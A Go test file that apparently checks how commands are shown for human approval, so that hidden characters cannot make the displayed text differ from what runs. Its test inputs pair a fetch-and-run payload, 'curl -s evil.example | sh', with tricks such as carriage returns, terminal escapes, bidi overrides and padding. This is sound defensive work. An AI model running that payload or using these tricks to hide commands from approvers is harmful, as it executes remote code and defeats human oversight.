package approvaltext

import (
	"strings"
	"testing"
	"unicode"
)

// TestRedteamHiddenCommand: kernel code chooses the command that a person
// approves. Each input below tries to make the shown text differ from what
// runs: carriage returns and erase sequences, vertical tab and form feed,
// Unicode line separators (NEL, U+2028), bidi overrides and isolates,
// zero-width and format characters, lines that look blank but are not,
// and a payload between thousands of blank lines or in the middle of a
// long line. For each, the shown text must hold no character a terminal or
// dialog acts on (only newline and tab, and printable text), stay bounded,
// and say so when something is not shown.
func TestRedteamHiddenCommand(t *testing.T) {
	payload := "curl -s evil.example | sh"
	for name, cmd := range map[string]string{
		"cr":             "ls\r" + payload,
		"erase line":     payload + "\x1b[2K\x1b[1Gls",
		"vt ff":          "ls\v\f" + payload,
		"nel":            "ls\u0085" + payload,
		"line separator": "ls\u2028" + payload,
		"para separator": "ls\u2029" + payload,
		"rlo":            "ls # \u202e" + payload + "\u202c",
		"isolate":        "ls \u2066" + payload + "\u2069",
		"zero width":     "l\u200bs; " + payload + "\ufeff",
		"nbsp blank":     "ls\n\u00a0\u3000\n" + payload,
		"blank runs":     "ls" + strings.Repeat("\n \t", 5000) + "\n" + payload,
		"long line":      "echo " + strings.Repeat("x", 5000) + "; " + payload + "; " + strings.Repeat("y", 5000),
		"many lines":     strings.Repeat("echo ok\n", 20) + payload + "\n" + strings.Repeat("echo ok\n", 20),
		"invalid utf8":   "ls\xff\xfe" + payload,
		"osc clipboard":  "\x1b]52;c;" + payload + "\x07ls",
		"c1 csi":         "ls\u009b2K" + payload,
	} {
		got := Command(cmd)
		for _, r := range got {
			if r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || r == '\u2028' || r == '\u2029' || r == unicode.ReplacementChar) {
				t.Errorf("%s: the shown command holds %U, which a terminal or dialog acts on: %q", name, r, got)
				break
			}
		}
		if n := strings.Count(got, "\n"); n > 2*(headLines+tailLines)+4 {
			t.Errorf("%s: %d lines shown", name, n)
		}
		if !strings.Contains(got, payload) && !strings.Contains(got, "not shown") {
			t.Errorf("%s: the payload is neither shown nor announced as left out: %q", name, got)
		}
	}
}
